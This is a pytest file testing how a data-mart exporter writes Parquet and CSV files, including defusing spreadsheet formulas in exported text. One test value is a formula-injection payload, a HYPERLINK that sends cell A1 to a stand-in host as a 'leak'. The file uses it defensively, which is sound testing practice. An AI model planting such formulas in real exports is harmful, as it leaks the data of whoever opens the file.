"""The marts as files, from small warehouses made for the purpose."""

from __future__ import annotations

import csv
import json
from datetime import datetime
from pathlib import Path
from typing import Literal

import duckdb
import pytest

from tribu.errors import OutputFolderError, WarehouseError
from tribu.export.marts import export_marts

FORMS: tuple[Literal["parquet", "csv"], ...] = ("parquet", "csv")
FORMULA = '=HYPERLINK("https://example.org?leak="&A1,"win")'


def make_warehouse(path: Path, *, source_kind: str = "landing", run_id: str = "run-1") -> Path:
    """A warehouse with the few tables that an export asks for, and two marts of odd types."""
    with duckdb.connect(str(path)) as connection:
        for schema in ("marts", "reporting", "staging"):
            connection.execute(f"create schema {schema}")
        connection.execute(
            "create table reporting.rpt_overview as select ? as built_at, ? as source_kind, 3::bigint as influencers,"
            " 1::bigint as clusters, 2::bigint as posts, ? as cluster_run_id",
            [datetime(2026, 11, 22, 16, 48), source_kind, run_id],
        )
        connection.execute("create table marts.dim_clusters as select 'c01' as cluster_key, 'run-1' as cluster_run_id")
        connection.execute(
            "create table marts.dim_influencers (influencer_key varchar not null, handle varchar, followers_count bigint,"
            " growth_ratio double, observed_at timestamp, account_created_on date, is_verified boolean)"
        )
        connection.executemany(
            "insert into marts.dim_influencers values (?, ?, ?, ?, ?, ?, ?)",
            [
                ["k1", FORMULA, 12, -0.5, datetime(2026, 6, 30, 12, 0), datetime(2020, 1, 2).date(), True],
                ["k2", 'comma, "quote"\nand line', None, 0.1, None, None, None],
                ["k3", "", 6857822520150839836, 1e-9, datetime(2026, 6, 30, 12, 0, 0, 500), None, False],
            ],
        )
        connection.execute("comment on table marts.dim_influencers is 'Influencers, a | b.'")
        connection.execute("comment on column marts.dim_influencers.growth_ratio is '-1 and up. Growth | change.'")
        connection.execute(
            "create table marts.fct_posts as select 'p' || i as post_key, ['a', '=b'] as hashtags from range(2) as t (i)"
        )
        connection.execute("create view marts.recent_posts as select post_key from marts.fct_posts")
        connection.execute("create table marts.empty_mart (cluster_key varchar, size bigint)")
        connection.execute("create table staging.not_a_mart as select 1 as one")
    return path


@pytest.fixture
def warehouse(tmp_path: Path) -> Path:
    return make_warehouse(tmp_path / "w.duckdb")


def read_csv(file: Path) -> list[dict[str, str]]:
    with file.open(encoding="utf-8", newline="") as lines:
        return list(csv.DictReader(lines))


@pytest.mark.parametrize("form", FORMS)
def test_every_mart_is_one_file_and_nothing_else_is(
    warehouse: Path, tmp_path: Path, form: Literal["parquet", "csv"]
) -> None:
    before = warehouse.read_bytes()
    exported = export_marts(warehouse, tmp_path / "out", form)
    marts = ["dim_clusters", "dim_influencers", "empty_mart", "fct_posts", "recent_posts"]
    assert [(one.table, one.rows) for one in exported] == list(zip(marts, [1, 3, 0, 2, 2], strict=True))
    assert sorted(path.name for path in (tmp_path / "out").iterdir()) == sorted(
        [
            *(f"{mart}.{form}" for mart in marts),
            f"data_dictionary.{form}",
            "data_dictionary.md",
            "README.txt",
            "tribu-export.json",
        ]
    )
    assert warehouse.read_bytes() == before
    assert sorted(path.name for path in tmp_path.iterdir()) == ["out", "w.duckdb"]


def test_parquet_holds_types_and_texts_as_they_are(warehouse: Path, tmp_path: Path) -> None:
    export_marts(warehouse, tmp_path / "out", "parquet")
    with duckdb.connect(str(warehouse), read_only=True) as connection:
        for mart in ("dim_influencers", "fct_posts", "empty_mart", "recent_posts"):
            file = f"read_parquet('{tmp_path}/out/{mart}.parquet')"
            types = [connection.execute(f"describe from {table}").fetchall() for table in (f"marts.{mart}", file)]
            assert [column[:2] for column in types[0]] == [column[:2] for column in types[1]]
            different = connection.execute(
                f"(from marts.{mart} except all from {file}) union all (from {file} except all from marts.{mart})"
            )
            assert different.fetchall() == []


def test_csv_says_the_same_with_formulas_defused(warehouse: Path, tmp_path: Path) -> None:
    export_marts(warehouse, tmp_path / "out", "csv")
    first, second, third = read_csv(tmp_path / "out" / "dim_influencers.csv")
    assert first == {
        "influencer_key": "k1",
        "handle": "'" + FORMULA,
        "followers_count": "12",
        "growth_ratio": "-0.5",
        "observed_at": "2026-06-30 12:00:00",
        "account_created_on": "2020-01-02",
        "is_verified": "true",
    }
    assert second["handle"] == 'comma, "quote"\nand line'
    assert second["followers_count"] == second["observed_at"] == second["is_verified"] == ""
    assert third["followers_count"] == "6857822520150839836", "no digit is lost"
    assert float(third["growth_ratio"]) == 1e-9
    assert [json.loads(row["hashtags"]) for row in read_csv(tmp_path / "out" / "fct_posts.csv")] == [["a", "=b"]] * 2
    assert (tmp_path / "out" / "empty_mart.csv").read_text(encoding="utf-8") == '"cluster_key","size"\n'
    lines = (tmp_path / "out" / "dim_influencers.csv").read_text(encoding="utf-8")
    assert '"k3","",' in lines, "an empty text is not an unknown one"


def test_foreign_text_of_any_type_is_defused(warehouse: Path, tmp_path: Path) -> None:
    with duckdb.connect(str(warehouse)) as connection:
        connection.execute(
            "create table marts.odd_types as select '=x'::enum('=x') as enumerated, '=x'::blob as bytes,"
            " {'=a': '=x'} as struct, map {'=a': '=x'} as mapped, 1::hugeint as whole, 1.50::decimal(9, 2) as decimal,"
            " interval 1 day as span, '12:00'::time as moment"
        )
    export_marts(warehouse, tmp_path / "out", "csv")
    (row,) = read_csv(tmp_path / "out" / "odd_types.csv")
    assert row == {
        "enumerated": "'=x",
        "bytes": "'=x",
        "struct": '{"=a":"=x"}',
        "mapped": '{"=a":"=x"}',
        "whole": "1",
        "decimal": "1.50",
        "span": "1 day",
        "moment": "12:00:00",
    }


def test_the_dictionary_is_the_comments_of_the_warehouse(warehouse: Path, tmp_path: Path) -> None:
    export_marts(warehouse, tmp_path / "csv", "csv")
    export_marts(warehouse, tmp_path / "parquet", "parquet")
    rows = read_csv(tmp_path / "csv" / "data_dictionary.csv")
    with duckdb.connect(str(warehouse), read_only=True) as connection:
        columns = connection.execute(
            "select table_name, column_name, data_type, coalesce(comment, '') from duckdb_columns()"
            " where schema_name = 'marts' order by table_name, column_index"
        ).fetchall()
        kept = connection.execute(
            f"select table_name, column_name, data_type, description from '{tmp_path}/parquet/data_dictionary.parquet'"
        ).fetchall()
    assert kept == columns
    told = [(row["table_name"], row["column_name"], row["data_type"], row["description"]) for row in rows]
    expected = [(*rest, "'" + text if text.startswith("-") else text) for *rest, text in columns]
    assert told == expected, "descriptions that begin with a minus are defused as well"
    (growth,) = [row for row in rows if row["column_name"] == "growth_ratio"]
    assert growth["table_description"] == "Influencers, a | b."
    assert growth["is_nullable"] == "true"
    assert [row["is_nullable"] for row in rows if row["column_name"] == "influencer_key"] == ["false"]
    markdown = (tmp_path / "csv" / "data_dictionary.md").read_text(encoding="utf-8")
    assert "| `growth_ratio` | double | yes | -1 and up. Growth \\| change. |" in markdown


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("kind", ["sample", "landing"])
def test_the_readme_says_what_it_is_and_of_when(tmp_path: Path, form: Literal["parquet", "csv"], kind: str) -> None:
    warehouse = make_warehouse(tmp_path / "w.duckdb", source_kind=kind)
    export_marts(warehouse, tmp_path / "out", form)
    readme = (tmp_path / "out" / "README.txt").read_text(encoding="utf-8")
    assert "run-1" in readme
    assert "2026-11-22 16:48 UTC" in readme
    assert ("SYNTHETIC SAMPLE" in readme) == (kind == "sample")
    assert f"dim_influencers.{form}" in readme
    marker = json.loads((tmp_path / "out" / "tribu-export.json").read_text(encoding="utf-8"))
    assert marker["format"] == f"tribu-export-{form}"
    assert marker["source_kind"] == kind
    assert marker["tables"]["dim_influencers"] == {"file": f"dim_influencers.{form}", "rows": 3}


def test_a_later_export_replaces_its_own_kind_only(warehouse: Path, tmp_path: Path) -> None:
    folder = tmp_path / "out"
    export_marts(warehouse, folder, "csv")
    (folder / "stale.csv").write_text("stale", encoding="utf-8")
    before = {path.name: path.read_bytes() for path in folder.iterdir()}
    with pytest.raises(OutputFolderError, match="an earlier Parquet export of Tribu"):
        export_marts(warehouse, folder, "parquet")
    assert {path.name: path.read_bytes() for path in folder.iterdir()} == before
    export_marts(warehouse, folder, "csv")
    del before["stale.csv"]
    assert {path.name: path.read_bytes() for path in folder.iterdir()} == before, "and the same export is the same"


@pytest.mark.parametrize("form", FORMS)
def test_a_failure_leaves_the_old_export(
    warehouse: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, form: Literal["parquet", "csv"]
) -> None:
    folder = tmp_path / "out"
    export_marts(warehouse, folder, form)
    before = {path.name: path.read_bytes() for path in folder.iterdir()}

    def full_disk(*_: object, **__: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("tribu.export.marts.write_dictionary", full_disk)
    with pytest.raises(OSError, match="No space left"):
        export_marts(warehouse, folder, form)
    assert {path.name: path.read_bytes() for path in folder.iterdir()} == before
    assert sorted(path.name for path in tmp_path.iterdir()) == ["out", "w.duckdb"]


@pytest.mark.parametrize(
    "damage",
    [
        "drop table reporting.rpt_overview",
        "delete from reporting.rpt_overview",
        "drop table marts.fct_posts cascade",
        "delete from marts.dim_influencers where influencer_key = 'k1'",
        "update marts.dim_clusters set cluster_run_id = 'run-2'",
    ],
)
def test_marts_of_an_unfinished_build_are_not_handed_on(warehouse: Path, tmp_path: Path, damage: str) -> None:
    with duckdb.connect(str(warehouse)) as connection:
        connection.execute("drop view marts.recent_posts")
        connection.execute(damage.removesuffix(" cascade"))
    with pytest.raises(WarehouseError, match="run dbt build to its end"):
        export_marts(warehouse, tmp_path / "out", "parquet")
    assert not (tmp_path / "out").exists()


def test_odd_names_of_folders_and_columns_are_quoted(warehouse: Path, tmp_path: Path) -> None:
    with duckdb.connect(str(warehouse)) as connection:
        connection.execute('create table marts."odd ""mart" as select 1 as "select", \'=x\' as "a ""b"')
    folder = tmp_path / "it's here"
    for form in FORMS:
        exported = export_marts(warehouse, folder / form, form)
        assert 'odd "mart' in {one.table for one in exported}
    assert read_csv(folder / "csv" / 'odd "mart.csv') == [{"select": "1", 'a "b': "'=x"}]
